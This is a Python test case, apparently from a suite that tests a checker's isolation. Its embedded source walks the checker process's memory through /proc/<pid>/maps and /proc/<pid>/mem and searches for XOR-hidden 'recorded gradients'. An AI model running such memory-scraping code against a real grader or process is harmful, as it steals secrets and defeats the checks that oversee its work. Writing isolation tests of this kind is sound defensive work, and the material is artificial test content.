"""Reads the checker's memory through /proc, as a process of the same user may. Gain: the recorded gradients."""

STOPPED_BY = 2
PRIVILEGES = "none"
SECONDS = 20.0
NEEDS = "ptrace"

SOURCE = """
import os
HIDDEN = bytes.fromhex("@NEEDLE@")
TABLE = bytes(byte ^ 0xFF for byte in range(256))

def grandparent():
    with open(f"/proc/{os.getppid()}/stat") as file:
        return int(file.read().rpartition(")")[2].split()[1])

checker = grandparent()
with open(f"/proc/{checker}/maps") as maps, open(f"/proc/{checker}/mem", "rb", buffering=0) as memory:
    for line in list(maps):
        if not line.split()[1].startswith("rw") or "[v" in line:
            continue
        start, end = (int(number, 16) for number in line.split()[0].split("-"))
        while start < end:
            memory.seek(start)
            try:
                chunk = memory.read(min(end - start, 1 << 22))
            except OSError:
                break
            if HIDDEN in chunk.translate(TABLE):
                print("BREACH")
                raise SystemExit
            start += len(chunk)
"""


def breached(run):
    """It found the recorded gradient."""
    return run.said("BREACH")
